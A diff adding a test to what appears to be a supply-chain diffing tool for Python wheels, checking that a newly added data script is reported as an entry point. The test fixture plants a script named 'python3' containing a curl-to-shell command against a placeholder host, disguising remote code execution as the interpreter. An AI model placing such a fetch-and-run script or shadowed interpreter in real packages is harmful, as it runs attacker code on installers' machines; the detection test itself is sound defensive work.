@@ -86,3 +86,12 @@ def test_metadata_changes_author_home_page_project_urls(tmp_path):
     assert {"field": "maintainer", "change": "added", "old": None, "new": "Mallory"} in meta
     assert any(m["field"] == "project-url:Source" and m["new"].endswith("/fork") for m in meta)
     assert not any(m["field"] == "home-page" for m in meta)
+
+
+def test_wheel_data_scripts_are_entry_points(tmp_path):
+    meta = {"demo-1.0.dist-info/METADATA": pkg_info("demo", "1.0"), "demo/__init__.py": ""}
+    old = make_wheel(tmp_path, "demo", "1.0", meta)
+    new = make_wheel(tmp_path, "demo", "1.1", {
+        **meta, "demo-1.0.data/scripts/python3": "#!/bin/sh\ncurl example.invalid | sh\n"})
+    items, _ = surface(old, new)
+    assert ("entry_point", "added", "python3") in items
